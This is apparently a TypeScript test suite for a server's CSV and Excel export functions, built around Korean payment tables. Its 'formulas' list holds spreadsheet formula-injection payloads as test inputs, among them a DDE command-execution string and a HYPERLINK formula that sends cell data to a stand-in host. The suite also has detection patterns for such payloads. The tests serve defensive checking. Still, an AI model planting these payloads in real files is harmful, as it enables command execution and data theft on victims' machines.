/** Both kinds of file, parsed by third-party libraries. */
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { describe, expect, it } from 'vitest';
import { csvFile, type Cell } from '../../server/csv-file.ts';
import { xlsxFile, type Rows } from '../../server/xlsx-file.ts';

const headings = ['주문번호', '금액 (원)', '상품'];

async function* batches(...rows: Cell[][][]): AsyncGenerator<Rows> {
  for (const some of rows) yield await Promise.resolve({ rows: some, strong: false });
}

async function csvOf(...rows: Cell[][][]): Promise<string> {
  let text = '';
  for await (const piece of csvFile(headings, batches(...rows))) text += piece;
  return text;
}

async function xlsxOf(rows: Cell[][][], mostRows?: number): Promise<Buffer> {
  const sums = { name: '합계', columns: [0, 1] };
  const table = { name: '결제', widths: [20, 12, 30], headings, sums };
  const pieces: Uint8Array[] = [];
  for await (const piece of xlsxFile(table, batches(...rows), mostRows)) pieces.push(piece);
  return Buffer.concat(pieces);
}

/** Texts that a spreadsheet would evaluate as formulas, hidden in every known way. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://trap.invalid/?x="&A1,"열기")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u{3000}=1+1',
  '\u{a0}=1+1',
  '\u{200b}=1+1',
  '\u{feff}=1+1',
  '\u{feff} \u{200b}@SUM(1,1)',
  '\u{ad}=1+1',
  '\u{61c}=1+1',
  '\u{180e}=1+1',
  '\u{2066}=1+1',
  '\u{202e}\u{ad}+1',
  '\u{3164}=1+1',
  '\u{0}=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  'a\n=1+1',
  'a\r\n=1+1',
  'a;=1+1',
  'a,=1+1',
  '";=1+1;"',
];
/** Blanks and invisible characters. */
const HIDDEN = /^[\s\p{Cc}\p{Cf}\p{DI}]+/u;
const ACTIVE = /^[\s\p{Cc}\p{Cf}\p{DI}]*[=+\-@＝＋－＠]/u;

describe('a CSV file', () => {
  it('starts with a byte order mark, ends its lines with CRLF, and keeps every text complete', async () => {
    const rows: Cell[][] = [
      ['a-1', 10_000, '콤마, "따옴표"\n둘째 줄'],
      ['a-2', -4000, ''],
      ['a-3', 0, null],
    ];
    const text = await csvOf(rows.slice(0, 1), [], rows.slice(1));
    expect(text.startsWith('\u{feff}주문번호,금액 (원),상품\r\na-1,10000,')).toBe(true);
    expect(parse(text, { bom: true })).toEqual([
      headings,
      ['a-1', '10000', '콤마, "따옴표"\n둘째 줄'],
      ['a-2', '-4000', ''],
      ['a-3', '0', ''],
    ]);
  });

  it.each(formulas)('contains no formula for %j', async (formula) => {
    const text = await csvOf([[formula, -1, formula]]);
    const given: string[][] = parse(text, { bom: true });
    expect(given.flat().filter((cell) => ACTIVE.test(cell))).toEqual(['-1']);
    const [, row] = given;
    expect(row?.[1]).toBe('-1');
    expect(row?.[0]?.replace(/^'/, '').trim()).toBe(formula.replace(HIDDEN, ''));
  });
});

describe('a workbook', () => {
  it('returns every text and number unchanged', async () => {
    const rows: Cell[][] = [
      ['20261124000123456789', 10_000, '<b>&"\'</b>'],
      ['a-2', -4000, ' 앞뒤 빈칸 '],
      ['a-3', 0, '줄\r\n바꿈 😀'],
      ['_x0041_', null, null],
    ];
    const sheet = await readSheet(await xlsxOf([rows.slice(0, 2), rows.slice(2)]), { trim: false });
    expect(sheet.slice(0, 4)).toEqual([headings, ...rows.slice(0, 3)]);
  });

  it('has times as times, in Korea’s, and the sums on a sheet of their own', async () => {
    async function* all(): AsyncGenerator<Rows> {
      const time = { time: '2026-10-31T15:00:00.999Z' };
      yield await Promise.resolve({ rows: [['a', 5, time]], strong: false });
      yield { rows: [['합계', 5, null]], strong: true };
    }
    const sums = { name: '합계', columns: [0, 1] };
    const table = { name: '결제', widths: [20, 12, 30], headings, sums };
    const pieces: Uint8Array[] = [];
    for await (const piece of xlsxFile(table, all())) pieces.push(piece);
    const file = Buffer.concat(pieces);
    const [, row] = await readSheet(file, '결제');
    expect(row).toEqual(['a', 5, new Date('2026-11-01T00:00:00.000Z')]);
    expect(await readSheet(file, '합계')).toEqual([headings.slice(0, 2), ['합계', 5]]);
    const xml = (sheet: number) =>
      strFromU8(unzipSync(file)[`xl/worksheets/sheet${String(sheet)}.xml`] ?? new Uint8Array());
    expect(xml(1)).toContain('<autoFilter ref="A1:C2"/>');
    expect(xml(2)).not.toContain('autoFilter');
  });

  it.each(formulas)('contains a text and no formula for %j', async (formula) => {
    const file = await xlsxOf([[[formula, 1, 'x']]]);
    const xml = strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(xml).toMatch(/<c r="A2" s="0" t="inlineStr">/);
  });

  it('contains nothing that XML can’t, and decodes no escape of its own', async () => {
    const file = await xlsxOf([[['a\u{0}\u{b}\u{ffff}\u{d800}b', 1, '_x0041_']]]);
    const xml = strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(xml).toContain('>ab<');
    expect(xml).toContain('_x005F_x0041_');
  });

  it('continues on another sheet where one is full, each with its headings', async () => {
    const rows = Array.from({ length: 7 }, (_, n): Cell[] => [`a-${String(n)}`, n, 'x']);
    const file = await xlsxOf([rows.slice(0, 4), rows.slice(4)], 4);
    const sheets = await Promise.all(
      ['결제', '결제 2', '결제 3'].map((name) => readSheet(file, name)),
    );
    expect(sheets.map((sheet) => sheet.length)).toEqual([4, 4, 2]);
    expect(sheets.map(([first]) => first)).toEqual([headings, headings, headings]);
    expect(sheets.flatMap((sheet) => sheet.slice(1))).toEqual(rows);
  });

  it('is not produced where its rows fail midway', async () => {
    async function* broken(): AsyncGenerator<Rows> {
      yield await Promise.resolve({ rows: [['a', 1, 'b']], strong: false });
      throw new Error('the disk is gone');
    }
    const sums = { name: '합계', columns: [0] };
    const table = { name: '결제', widths: [1, 1, 1], headings, sums };
    const read = async () => {
      const pieces: Uint8Array[] = [];
      for await (const piece of xlsxFile(table, broken())) pieces.push(piece);
      return pieces;
    };
    await expect(read()).rejects.toThrow('the disk is gone');
  });
});
